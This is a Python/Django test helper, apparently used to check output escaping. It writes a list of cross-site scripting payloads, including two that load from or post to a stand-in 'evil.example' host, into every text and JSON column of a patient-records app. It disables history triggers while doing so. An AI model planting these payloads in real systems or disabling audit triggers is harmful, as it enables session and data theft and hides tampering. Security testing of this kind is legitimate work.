"""Text that would run in a browser if it ever got out of its place, put into every column that holds text."""

from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import DatabaseError, connection, models, transaction

RUN = "window.__pwned=1"
# What ends a text, an attribute, a comment, a script or a data attribute, and begins something that runs.
PAYLOADS = [
    f"<script>{RUN}</script>", f'"><img src=x onerror={RUN}>', f"'><svg/onload={RUN}>",
    f"</textarea><script>{RUN}</script>", f'" autofocus onfocus="{RUN}" x="', f"javascript:{RUN}//",
    f"</script><script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f'"}}]</script><script>{RUN}</script>',
    f"\\u003cimg src=x onerror={RUN}\\u003e", f"--><img src=x onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞\u2028\u2029<b",
    "</title></style><style>@import'//evil.example'</style>",
    f"<a href=javascript:{RUN}>x</a><form action=//evil.example><button>x",
    f"{{{{{RUN}}}}}<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
]  # fmt: skip
SHORT = [f"<svg onload={RUN}>", "'\"><b>", '"><i>', "<x>", "<"]
# What is no text of a person: names by which rows are found, what is matched, what a library reads back as code.
KEPT = {
    "key", "slug", "status", "role", "email", "username", "password", "language", "content_type", "codename",
    "app_label", "model", "country", "colour", "pgh_label", "side", "step", "start_step", "gait_strategy", "proposal",
    "from_phase",
    "to_phase", "strength", "type", "measure_key", "table_name", "row_key", "checksum", "source_key", "client_key",
    "idempotency_key", "request_id", "digest", "code_digest", "link_digest", "session_key", "national_number",
    "nihdi_number", "part",
}  # fmt: skip
OURS = {"accounts", "patients", "scheduling", "pathways"}


def columns() -> Iterator[tuple[type[models.Model], Any]]:
    """Yield each column of ours in which a person's text can stand, history included."""
    for model in apps.get_models():
        if model._meta.app_label not in OURS or not model._meta.managed:
            continue
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField) and not field.choices
            if (is_text or isinstance(field, models.JSONField)) and field.name not in KEPT and not field.primary_key:
                yield model, field


def poison() -> tuple[int, list[str]]:
    """Put a payload into every text of every row; return how many columns took one, and which would not.

    As the owner of the tables, with the triggers that keep history off: this is an attacker who got in by any door.
    """
    taken, refused = 0, []
    for number, (model, field) in enumerate(columns()):
        if _takes(model, field, number):
            taken += 1
        else:
            refused.append(f"{model._meta.label}.{field.name}")
    return taken, refused


def _takes(model: type[models.Model], field: Any, number: int) -> bool:
    choices = [PAYLOADS[(number + step) % len(PAYLOADS)] for step in range(4)] + SHORT
    for text in (each for each in choices if len(each) <= (getattr(field, "max_length", None) or 10_000)):
        try:
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute("SET LOCAL session_replication_role = replica")
                if isinstance(field, models.JSONField):
                    return _into_json(model, field, text)
                model._base_manager.update(**{field.attname: text})
        except DatabaseError:
            continue
        return True
    return False


def _into_json(model: type[models.Model], field: Any, text: str) -> bool:
    for row in model._base_manager.all():
        value = getattr(row, field.attname)
        model._base_manager.filter(pk=row.pk).update(**{field.attname: poisoned(value, text)})
    return True


def poisoned(value: Any, text: str, name: str = "") -> Any:
    """Return the same document with a payload after each text of several words; names and keys stay what they are."""
    if isinstance(value, dict):
        return {each: poisoned(inside, text, each) for each, inside in value.items()}
    if isinstance(value, list):
        return [poisoned(each, text, name) for each in value]
    return f"{value} {text}" if isinstance(value, str) and " " in value.strip() else value
